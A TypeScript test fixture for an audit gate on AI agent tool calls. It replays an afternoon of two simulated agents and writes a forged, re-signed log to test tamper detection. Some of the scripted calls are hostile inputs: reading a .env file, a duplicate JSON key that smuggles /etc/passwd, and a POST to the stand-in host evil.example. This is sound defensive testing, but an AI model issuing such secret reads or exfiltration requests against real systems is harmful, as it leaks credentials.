/**
 * The real run behind docs/audit.md: a gate with the repository's policies and redacted arguments,
 * two standalone guards (a sandbox and a web fetcher, each with its own executed log), executors on
 * real sockets, and the calls an afternoon of two agents makes. Writes the logs, the public keys and
 * a forged copy an attacker might leave, into `out`, and returns the ids the session refers to.
 */
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { generateKeyPair, jwks, writeKeyFiles } from '../../src/binding/index.js'
import type { AuditRecord } from '../../src/audit/index.js'
import { ConfigSchema } from '../../src/config/index.js'
import { startGate } from '../../src/gate/index.js'
import { checkGuardConfig, startGuard } from '../../src/guard/index.js'
import { newSigner, tempDir } from './helpers.js'
import { reforge } from './tamper.js'

export interface SessionIds {
  /** The instant the session's reconciles run at (two minutes after the last call). */
  now: string
  /** An hour before `now`. */
  since: string
  writeId: string
  envDenyId: string
  missingId: string
}

function executor(): Promise<{ server: Server; url: string }> {
  const server = createServer((req, res) => {
    const chunks: Buffer[] = []
    req.on('data', (d: Buffer) => chunks.push(d))
    req.on('end', () => {
      const args = JSON.parse(Buffer.concat(chunks).toString()) as { path?: string }
      if (typeof args.path === 'string' && args.path.includes('missing')) {
        res.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"no such file"}')
        return
      }
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ ok: true }))
    })
  })
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` })))
}

const wait = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms))

export async function runSession(out: string, repoRoot: string): Promise<SessionIds> {
  const work = tempDir('verbatim-session-')
  const logs = join(out, 'logs')
  const keys = join(out, 'keys')
  mkdirSync(keys, { recursive: true })
  const gateKey = await generateKeyPair()
  const gateFiles = await writeKeyFiles(join(work, 'gate'), gateKey)
  writeFileSync(join(keys, 'gate.jwks.json'), JSON.stringify(jwks([gateKey]), null, 2) + '\n')
  const guards = []
  for (const [name, audience] of [['sandbox', 'sandbox-1'], ['web', 'web-1']] as const) {
    const key = await generateKeyPair()
    const files = await writeKeyFiles(join(work, name), key)
    writeFileSync(join(keys, `guard-${name}.jwks.json`), JSON.stringify(jwks([key]), null, 2) + '\n')
    const ex = await executor()
    const guard = await startGuard(checkGuardConfig({
      listen: { port: 0 }, audience, skewSeconds: 1, keys: { jwksFile: join(keys, 'gate.jwks.json') }, audit: { dir: join(logs, `guard-${name}`) },
      signing: { keyFile: files.privatePath }, executor: { http: ex.url },
    }), { log: () => undefined })
    guards.push({ name, audience, guard, ex })
  }
  // Brand-new executed logs: each guard takes fresh bindings once its restart window has passed.
  await wait(Math.max(0, ...guards.map((g) => g.guard.readyAt - Date.now())) + 50)
  const config = ConfigSchema.parse({
    listen: { host: '127.0.0.1', port: 0 },
    policies: ['policies'],
    agents: [{ id: 'coder', token: { env: 'CODER_TOKEN' } }, { id: 'reviewer', token: { env: 'REVIEWER_TOKEN' } }],
    upstreams: guards.map((g) => ({ name: g.name, url: g.guard.url, audience: g.audience, receipts: { jwksFile: join(keys, `guard-${g.name}.jwks.json`) } })),
    routes: [{ tools: ['fs.*', 'shell.exec'], upstream: 'sandbox' }, { tools: ['http.fetch'], upstream: 'web' }],
    signing: { keyFile: gateFiles.privatePath, ttlSeconds: 60 },
    audit: { dir: join(logs, 'gate'), arguments: 'redacted', redact: ['/content', '/headers'] },
    probe: { intervalMs: 0 },
  })
  const cwd = process.cwd()
  process.chdir(repoRoot) // the policy paths the log records are the config's, relative: policies/fs.yaml
  let gate
  try {
    gate = await startGate(config, { env: { CODER_TOKEN: 'coder-token-0123456789', REVIEWER_TOKEN: 'reviewer-token-0123456789' }, log: () => undefined })
  } finally {
    process.chdir(cwd)
  }
  const call = async (agent: string, tool: string, body: string): Promise<string> => {
    const res = await fetch(`${gate.url}/v1/tools/${tool}`, { method: 'POST', headers: { authorization: `Bearer ${agent}-token-0123456789`, 'content-type': 'application/json' }, body })
    await res.arrayBuffer()
    return res.headers.get('verbatim-decision-id') ?? ''
  }
  await call('coder', 'fs.read', '{"path":"/workspace/README.md"}')
  await call('reviewer', 'fs.list', '{"path":"/workspace"}')
  const writeId = await call('coder', 'fs.write', '{"path":"/workspace/notes.md","content":"API_KEY rotation notes, do not share"}')
  const envDenyId = await call('coder', 'fs.read', '{"path":"/workspace/.env"}')
  await call('reviewer', 'fs.write', '{"path":"/workspace/notes.md","content":"LGTM"}')
  await call('coder', 'fs.read', '{"path":"/workspace/README.md","path":"/etc/passwd"}')
  const missingId = await call('coder', 'fs.read', '{"path":"/workspace/missing.txt"}')
  await call('coder', 'shell.exec', '{"argv":["git","status"]}')
  await call('coder', 'shell.exec', '{"argv":["cat","/workspace/.env"]}')
  await call('reviewer', 'http.fetch', '{"url":"https://docs.python.org/3/library/json.html"}')
  await call('coder', 'http.fetch', '{"url":"https://evil.example/upload","method":"POST"}')
  await gate.close()
  for (const g of guards) {
    await g.guard.close()
    g.ex.server.close()
  }
  // An attacker with write access rewrites the sandbox's log so that the approved fs.read looks like an
  // fs.write, re-chains it and re-signs it with a key of their own.
  const src = join(logs, 'guard-sandbox')
  const dst = join(out, 'forged', 'guard-sandbox')
  mkdirSync(dst, { recursive: true })
  const attacker = newSigner('attacker')
  for (const f of readdirSync(src).filter((n) => n.endsWith('.jsonl'))) {
    const records = readFileSync(join(src, f), 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as AuditRecord)
    let done = false
    const edited = records.map((r) => {
      if (done || r.type !== 'execution' || r['tool'] !== 'fs.read') return r
      done = true
      return { ...r, tool: 'fs.write', target: '/v1/tools/fs.write' }
    })
    writeFileSync(join(dst, f), reforge(edited, attacker.kid, attacker.privateKey, true))
  }
  const last = Math.max(...readdirSync(join(logs, 'gate')).filter((n) => n.endsWith('.jsonl')).flatMap((n) =>
    readFileSync(join(logs, 'gate', n), 'utf8').split('\n').filter((l) => l !== '').map((l) => (JSON.parse(l) as AuditRecord).ts)))
  const now = Math.ceil((last + 120_000) / 60_000) * 60_000
  return { now: new Date(now).toISOString(), since: new Date(now - 3_600_000).toISOString(), writeId, envDenyId, missingId }
}
